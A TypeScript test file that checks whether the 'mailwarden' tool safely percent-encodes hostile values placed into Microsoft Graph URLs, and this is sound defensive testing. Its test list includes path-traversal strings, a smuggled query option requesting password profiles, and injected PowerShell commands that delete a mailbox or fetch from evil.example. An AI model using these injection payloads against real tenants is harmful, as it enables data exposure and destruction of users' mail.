/**
 * Hostile strings where mailwarden puts values into Graph URLs (user lookups by UPN, rule and folder ids): each
 * is percent-encoded into one path segment, so it can only ever name a (missing) object — never another path,
 * query option or tenant.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestTenant, type TestTenant } from "../helpers/tenant.js";

let t: TestTenant;
beforeAll(async () => {
  t = await startTestTenant();
});
afterAll(async () => {
  await t.close();
});

const CORPUS = [
  "../../users",
  "x?$select=passwordProfile",
  "x#fragment",
  "a/b",
  "AdeleV@contoso.com/mailFolders/inbox/messageRules",
  "%2e%2e%2fusers",
  "x'; Remove-Mailbox ceo -Confirm:$false; '",
  "$(Invoke-WebRequest evil.example)",
  "`whoami`",
  "line\nbreak",
  "\u2018smart\u2019 \u201cquotes\u201d",
  "-Force",
  "x".repeat(4096),
];

describe("Graph paths carry hostile values as data", () => {
  for (const s of CORPUS) {
    it(`getUser(${JSON.stringify(s.slice(0, 40))}) is a clean not-found, and nothing else is touched`, async () => {
      const mark = t.mark();
      await expect(t.handles.graph.getUser(s)).rejects.toMatchObject({
        name: "GraphApiError",
        kind: expect.stringMatching(/notFound|badRequest/),
      });
      const reqs = t.emulator
        .requests()
        .slice(mark)
        .filter((r) => r.face === "graph");
      expect(reqs).toHaveLength(1);
      // One encoded segment under /users/: no traversal, no smuggled query option.
      expect(reqs[0]!.path.startsWith("/v1.0/users/")).toBe(true);
      expect(reqs[0]!.path.slice("/v1.0/users/".length).split("?")[0]).not.toContain("/");
      expect(t.writes(mark)).toEqual([]);
    });
  }

  it("rule and folder ids are encoded too", async () => {
    const adele = t.emulator.ctx.state.users.find((u) => u.userPrincipalName === "AdeleV@contoso.com")!;
    const states = () => t.emulator.ctx.state.mailboxes.flatMap((m) => m.rules.map((r) => r.enabled));
    const before = states();
    const mark = t.mark();
    await expect(t.handles.graph.getMessageRule(adele.id, "../../../users")).rejects.toMatchObject({
      kind: expect.stringMatching(/notFound|badRequest/),
    });
    await expect(
      t.handles.graph.updateMessageRule(adele.id, "x?y=1", { isEnabled: false }),
    ).rejects.toMatchObject({ kind: expect.stringMatching(/notFound|badRequest/) });
    expect(states()).toEqual(before);
    expect(t.writes(mark)).toEqual([]);
  });
});
